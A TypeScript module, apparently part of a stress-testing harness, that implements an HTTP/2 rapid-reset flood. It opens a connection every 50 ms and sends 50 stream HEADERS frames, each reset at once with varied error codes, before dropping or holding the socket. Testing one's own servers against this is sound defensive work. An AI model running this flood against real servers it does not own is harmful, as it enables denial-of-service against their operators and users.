import { headers, preface, reset } from "@posthaste/testkit/http2-frames";
import { type Attack, every } from "../strike.ts";
import { headsOf } from "./routes.ts";

/** New connections: 20 a second. */
const EVERY_MS = 50;
/** Fewer than a session allows at once. */
const STREAMS = 50;
/** RFC 9113, section 7: NO_ERROR, INTERNAL_ERROR, STREAM_CLOSED, CANCEL, ENHANCE_YOUR_CALM. */
const CODES = [0, 2, 5, 8, 11] as const;

/** Opens streams and resets them in the same write, then leaves or stays. */
export const resets: Attack = async ({ target, random, signal, tally, open }) => {
  const heads = headsOf(target);
  for await (const _ of every(EVERY_MS, signal)) {
    const socket = open();
    if (socket === undefined) continue;
    const frames = [preface(random.pick([0, 65_535]))];
    for (let stream = 1; stream < 2 * STREAMS; stream += 2) {
      frames.push(headers(stream, random.pick(heads), random.pick([true, false])));
      frames.push(reset(stream, random.pick(CODES)));
    }
    tally.requests += STREAMS;
    const leave = random.pick(["reset", "end", "stay"]);
    socket.write(Buffer.concat(frames), () => {
      if (leave === "reset") socket.resetAndDestroy();
      if (leave === "end") socket.end();
    });
  }
};
